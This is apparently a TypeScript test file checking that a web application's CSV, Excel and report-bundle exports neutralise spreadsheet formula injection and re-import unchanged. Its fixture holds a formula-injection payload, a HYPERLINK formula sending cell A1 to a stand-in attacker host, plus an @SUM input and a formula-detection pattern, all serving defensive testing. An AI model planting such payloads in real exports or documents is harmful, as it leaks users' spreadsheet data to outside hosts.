// Exports are safe to open in a spreadsheet, over HTTP in-process: a published title starting with
// `=` reaches the registry export, a report bundle and an observation export as text, never as a
// formula; negative numbers stay numbers; re-importing an export changes nothing.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import ExcelJS from 'exceljs';
import { openTestApp, type TestApp } from '../testing/app.ts';
import { Visitor } from '../testing/visitor.ts';
import { buildReportFixture, type ReportFixture } from '../testing/report-fixture.ts';
import { writeObservationsCsv } from '../indicators/csv.ts';
import { writeSdmxCsv } from '../indicators/sdmx.ts';

const operator = 'operator-token-for-csv-export-tests-0123';
const formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")';
let t: TestApp;
let f: ReportFixture;

beforeAll(async () => {
  t = await openTestApp({ CONCORD_OPERATOR_TOKEN: operator, CONCORD_TRUST_PROXY: '1' });
  f = await buildReportFixture(t.store, '-formula', formula);
});
afterAll(() => t.close());

/** Every cell of a CSV text, parsed as a spreadsheet program would split it. */
const cellsOf = (text: string) => parse(text, { bom: true, relax_column_count: true }).flat();
/** A cell a spreadsheet program would run as a formula (a plain number is a number). */
const runsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/.test(cell);

describe('exports opened in a spreadsheet', () => {
  it('write a published title starting with = as text in the registry export (CSV and Excel)', async () => {
    const response = await t.app.request('/en/registry/export/initiatives.csv');
    expect(response.status).toBe(200);
    const text = await response.text();
    const rows = parse<Record<string, string>>(text, { bom: true, columns: true });
    expect(rows.find((r) => r.id === f.initiativeId)?.title_en).toBe(`'${formula}`);
    expect(cellsOf(text).filter(runsAsFormula)).toEqual([]);

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(
      Buffer.from(await (await t.app.request('/en/registry/export/registry.xlsx')).arrayBuffer()) as unknown as ArrayBuffer,
    );
    const sheet = workbook.getWorksheet('initiatives')!;
    const titles: ExcelJS.Cell[] = [];
    sheet.eachRow((row) => row.eachCell((cell) => void (cell.value === formula && titles.push(cell))));
    // Excel keeps a string cell a string: the text is written as it is, with no formula.
    expect(titles).toHaveLength(1);
    expect(titles[0]!.type).toBe(ExcelJS.ValueType.String);
    expect(titles[0]!.formula).toBeUndefined();
  });

  it('write it as text in every CSV of a report bundle', async () => {
    const response = await t.app.request(`/en/reports/roadmap/${f.roadmapId}.zip`);
    expect(response.status).toBe(200);
    const files = unzipSync(new Uint8Array(await response.arrayBuffer()), { filter: (file) => file.name.endsWith('.csv') });
    const initiatives = strFromU8(files[`roadmap-${f.roadmapId}-en/activity-initiatives.csv`]!);
    expect(cellsOf(initiatives)).toContain(`'${formula}`);
    for (const [name, bytes] of Object.entries(files)) expect(cellsOf(strFromU8(bytes)).filter(runsAsFormula), name).toEqual([]);
  });

  it('write observation notes as text and values as numbers, and read the export back unchanged', async () => {
    const file = [
      'series,area,period,value,unit,source,notes',
      `ITU.HH.INTERNET,001,2016,47.5,PT,test-csv-formula,"${formula.replaceAll('"', '""')}"`,
      'ITU.HH.INTERNET,001,2017,48.25,PT,test-csv-formula,@SUM(1+1)',
    ].join('\n');
    const auth = { Authorization: `Bearer ${operator}` };
    const imported = await t.app.request('/api/v1/observations', {
      method: 'POST',
      headers: { ...auth, 'Content-Type': 'text/csv' },
      body: file,
    });
    expect(imported.status, await imported.clone().text()).toBe(200);

    for (const format of ['csv', 'sdmx-csv']) {
      const exported = await t.app.request(`/api/v1/indicators/ITU.HH.INTERNET/observations?format=${format}&area=001`);
      expect(exported.status).toBe(200);
      const text = await exported.text();
      const cells = cellsOf(text);
      expect(cells).toContain(`'${formula}`);
      expect(cells).toContain("'@SUM(1+1)");
      expect(cells).toContain('48.25');
      expect(cells.filter(runsAsFormula), format).toEqual([]);
      const again = (await (
        await t.app.request('/api/v1/observations', {
          method: 'POST',
          headers: { ...auth, 'Content-Type': format === 'csv' ? 'text/csv' : 'application/vnd.sdmx.data+csv' },
          body: text,
        })
      ).json()) as { ok: boolean; rows: number; inserted: number; updated: number; unchanged: number };
      expect(again).toMatchObject({ ok: true, inserted: 0, updated: 0 });
      expect(again.unchanged).toBe(again.rows);
    }

    // A negative value (a change, a balance) is written as a number in both CSV formats.
    const change = {
      series: 'X.CHANGE',
      area: 'GBR',
      period: '2024',
      dimensions: {},
      value: -3.5,
      unit: 'PT',
      source: 'test',
      notes: '-fell',
    };
    expect(cellsOf(writeObservationsCsv([change]))).toEqual(expect.arrayContaining(['-3.5', "'-fell"]));
    expect(cellsOf(writeSdmxCsv([change]))).toEqual(expect.arrayContaining(['-3.5', "'-fell"]));
  });

  it('lets a contributor re-import an export of a title starting with = and change nothing', async () => {
    const v = new Visitor(t.app);
    await v.signUp('en', 'Formula Importer', 'formula-importer@example.org', 'correct horse battery');
    await v.get('/en/organizations/new');
    const org = (await v.post('/en/organizations/new', { name: 'Formula Import Org', stakeholderType: 'academia' }))
      .location!.split('/')
      .pop()!
      .split('?')[0]!;
    await v.get('/en/initiatives/new');
    const made = await v.post('/en/initiatives/new', {
      leadOrganizationId: org,
      status: 'ongoing',
      title_en: '+254 helpline for online safety',
      description_en: "'@ quoted words, and a description that starts plainly.",
      areas: 'KEN',
      link_element_0: 'gdc.11.a',
      link_evidence_0: '-Connects schools in Kenya.',
    });
    expect(made.status).toBe(303);
    const exported = (await v.get('/en/registry/export/initiatives.csv?scope=mine')).html;
    expect(cellsOf(exported)).toContain("'+254 helpline for online safety");
    expect(cellsOf(exported).filter(runsAsFormula)).toEqual([]);

    await v.get('/en/registry/transfer');
    const form = new FormData();
    form.append('_csrf', v.csrf);
    form.append('file', new File([exported], 'initiatives.csv', { type: 'text/csv' }));
    const again = await t.app.request('/en/registry/import', {
      method: 'POST',
      body: form,
      headers: { Cookie: [...v.cookies].map(([k, val]) => `${k}=${val}`).join('; '), 'X-Forwarded-For': '198.51.100.9' },
    });
    expect(again.status).toBe(200);
    expect(await again.text()).toMatch(/0 new, 0 changed, 1 unchanged/);
    expect((await v.get('/en/registry/export/initiatives.csv?scope=mine')).html).toBe(exported);
  });
});
